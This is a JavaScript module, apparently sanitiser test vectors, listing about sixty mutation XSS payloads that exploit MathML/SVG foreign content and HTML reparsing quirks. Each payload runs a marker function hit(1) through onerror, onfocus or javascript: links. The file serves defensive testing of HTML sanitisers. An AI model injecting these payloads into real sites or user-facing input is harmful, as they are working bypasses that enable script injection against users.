import {ownWork} from './vector.js';

const foreign = 'the shapes of published mutation XSS through foreign content in earlier sanitisers (2019 to 2024)';
const fragments = 'the HTML Standard’s warning that serialising and parsing again may not give the same tree';

/** Markup that becomes something else when it is parsed a second time. */
export const mutation = [
  ...ownWork(foreign, {
    'style in MathML after a nested form':
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror="hit(1)"></style></mglyph></form>',
    'glyph in a table in MathML':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
    'glyph and CDATA':
      '<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=hit(1)&gt;">',
    'mark of malignity':
      '<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
    'style in SVG': '<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">',
    'style in SVG, with a title':
      '<svg><title><style><img title="</style><img src=1 onerror=hit(1)>"></style></title></svg>',
    'style in SVG, with a comment': '<svg><style><!--</style><img src=1 onerror=hit(1)>--></style></svg>',
    'style in MathML': '<math><style><img title="</style><img src onerror=hit(1)>"></style></math>',
    'description and a paragraph':
      '<svg><desc><p></p><style><a title="</style><img src onerror=hit(1)>"></a></style></desc></svg>',
    'foreign object and a paragraph':
      '<svg><foreignobject><p><style><!--</style></p><img title="--><img src onerror=hit(1)>"></foreignobject></svg>',
    'annotation with an encoding':
      '<math><annotation-xml encoding="text/html"><style><img src onerror=hit(1)></style></annotation-xml></math>',
    'annotation without an encoding':
      '<math><annotation-xml><style><!--</style><img title="--><img src onerror=hit(1)>"></annotation-xml></math>',
    'annotation with SVG in it':
      '<math><annotation-xml encoding="application/xhtml+xml"><svg><style><p title="</style><img src onerror=hit(1)>">',
    'option in a choice in SVG':
      '<svg><select><option><style></option></select><b><style></style></b><img title="</style><img src onerror=hit(1)>"></svg>',
    'break out of SVG by a paragraph': '<svg><g/></p><img src="x" onerror="hit(1)"></svg>',
    'break out of SVG by a heading': '<svg><h1><img src="x" onerror="hit(1)"></h1></svg>',
    'break out of MathML by a list': '<math><mi><ul><li><img src="x" onerror="hit(1)"></math>',
    'font with a colour breaks out': '<svg><font color="red"><img src="x" onerror="hit(1)"></font></svg>',
    'font without a colour does not': '<svg><font><style><a title="</style><img src onerror=hit(1)>"></font></svg>',
  }),
  ...ownWork(fragments, {
    'form in a form': '<form id="outer"><div></form><form id="inner"><input onfocus="hit(1)" autofocus></form></div>',
    'table row outside a table': '<tr><td><img src="x" onerror="hit(1)">',
    'text that a table gives up': '<table><img src="x" onerror="hit(1)"><tr><td>a</td></tr></table>',
    'script that a table gives up': '<table><caption><svg><title><table><img src="x" onerror="hit(1)"></table></title>',
    'link in a link': '<a href="#"><table><a href="javascript:hit(1)">press</a></table></a>',
    'formatting that crosses': '<b><p><i></b><img src="x" onerror="hit(1)"></i></p>',
    'paragraph in a paragraph': '<p><p title="</p><img src=x onerror=hit(1)>">a',
    'noscript and an attribute': '<noscript><p title="</noscript><img src=x onerror=hit(1)>"></noscript>',
    'noscript and a comment': '<noscript><!--</noscript><img src=x onerror=hit(1)>--></noscript>',
    'noscript and a style': '<noscript><style></noscript><img src=x onerror=hit(1)></style></noscript>',
    'noembed and an attribute': '<noembed><p title="</noembed><img src=x onerror=hit(1)>"></noembed>',
    'noframes and an attribute': '<noframes><p title="</noframes><img src=x onerror=hit(1)>"></noframes>',
    'frame and an attribute': '<iframe><p title="</iframe><img src=x onerror=hit(1)>"></iframe>',
    'raw text and an attribute': '<xmp><p title="</xmp><img src=x onerror=hit(1)>"></xmp>',
    'text area and an attribute': '<textarea><p title="</textarea><img src=x onerror=hit(1)>"></textarea>',
    'title and an attribute': '<title><p title="</title><img src=x onerror=hit(1)>"></title>',
    'style and an attribute': '<style><p title="</style><img src=x onerror=hit(1)>"></style>',
    'script and an attribute': '<script><p title="</script><img src=x onerror=hit(1)>"></script>',
    'plain text to the end': '<plaintext><img src=x onerror=hit(1)>',
    'plain text in SVG': '<svg><plaintext><img src=x onerror=hit(1)></plaintext></svg>',
    'template and an attribute': '<template><p title="</template><img src=x onerror=hit(1)>"></template>',
    'template in a template':
      '<template><template><img src=x onerror=hit(1)></template></template><svg><template><img src=x onerror=hit(1)>',
    'comment that ends at once': '<!--><img src=x onerror=hit(1)>-->',
    'comment that ends with a dash': '<!---><img src=x onerror=hit(1)>-->',
    'comment with an exclamation mark': '<!-- --!><img src=x onerror=hit(1)>-->',
    'comment with nothing in it': '<!><img src=x onerror=hit(1)>',
    'comment in a comment': '<!-- <!-- --> <img src=x onerror=hit(1)> -->',
    'comment that is a question': '<?xml version="1.0"><img src=x onerror=hit(1)>?>',
    'comment that is an end': '</ title="><img src=x onerror=hit(1)>">',
    'condition of old': '<!--[if gte IE 4]><script>hit(1)</script><![endif]--><img src=x onerror=hit(1)>',
    'CDATA outside of foreign content': '<![CDATA[><img src=x onerror=hit(1)>]]>',
    'line end that a block of code loses': '<pre>\n\n<img src=x onerror=hit(1)></pre>',
    'line end that a listing loses': '<listing>\n<img src=x onerror=hit(1)></listing>',
    'hidden text in an attribute':
      '<p title="&lt;img src=x onerror=hit(1)&gt;">a</p><p title="`><img src=x onerror=hit(1)>`">',
    'choice with markup in it':
      '<select><template><img src=x onerror=hit(1)></template><img src=x onerror=hit(1)></select>',
    'choice with a script in it': '<select><script>hit(1)</script><option>a</select><keygen onfocus=hit(1) autofocus>',
    'many levels': `${'<div>'.repeat(600)}<svg><style><a title="</style><img src=x onerror=hit(1)>">`,
    'many levels of formatting': `${'<b>'.repeat(520)}<table><math><mtext><mglyph><style><img src=x onerror=hit(1)>`,
  }),
];
